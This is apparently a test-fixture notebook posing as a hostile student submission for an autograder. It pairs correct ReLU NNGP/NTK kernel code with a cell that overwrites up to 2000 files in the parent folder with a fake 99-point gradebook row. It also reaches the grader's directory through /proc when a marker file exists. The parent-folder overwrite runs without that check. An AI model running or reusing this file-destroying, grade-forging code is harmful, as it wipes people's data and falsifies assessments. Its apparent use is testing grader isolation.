# ---
# jupyter:
#   jupytext:
#     formats: ipynb,py:percent
#   kernelspec:
#     display_name: Python 3 (ipykernel)
#     language: python
#     name: python3
# ---

# %% [markdown]
# Hostile submission for exercise set 01 (tests/test_grading_hostile.py).
# Correct answers, and a cell that overwrites every file it can find: its own
# folder (job, harness, results, the copied package) and, when the grader runs in a folder
# holding HOSTILE_TEST_PLAYGROUND (the test's temporary folder, so that this stays
# harmless elsewhere), every gradebook, feedback file, submission and solution there.
# Expected: q1, q2, q3 correct; every other student graded as if it were absent.

# %%
import math
import os
import sys

import torch

# %%
from pathlib import Path


def trash(folder, limit=2000):
    n = 0
    for path in Path(folder).rglob('*'):
        if n >= limit:
            break
        try:
            if path.is_file() and not path.is_symlink():
                path.write_text('student,exercise_set,question,points\nrewrite_files,x,q,99\n')
                n += 1
        except OSError:
            pass
    return n


count = trash(Path.cwd().parent)
grader_cwd = Path(f'/proc/{os.getppid()}/cwd')
try:
    if (grader_cwd / 'HOSTILE_TEST_PLAYGROUND').exists():
        count += trash(grader_cwd.resolve())
except OSError:
    pass
print(f'rewrote {count} files')

# %%
def sphere_terms(xi):
    xi = xi.clamp(-1.0, 1.0)
    delta = math.pi - torch.arccos(xi)
    return (xi * delta + torch.sqrt((1 - xi) * (1 + xi))) / math.pi, delta / math.pi


def _norms_cos(X1, X2):
    X2 = X1 if X2 is None else X2
    norms = X1.norm(dim=1)[:, None] * X2.norm(dim=1)[None, :]
    return norms, (X1 @ X2.T) / torch.where(norms > 0, norms, torch.ones_like(norms))

def relu_nngp_off_sphere(X1, X2=None):
    norms, cos = _norms_cos(X1, X2)
    return norms * sphere_terms(cos)[0]

def relu_ntk_off_sphere(X1, X2=None):
    norms, cos = _norms_cos(X1, X2)
    dual, ddual = sphere_terms(cos)
    return norms * (dual + cos * ddual)

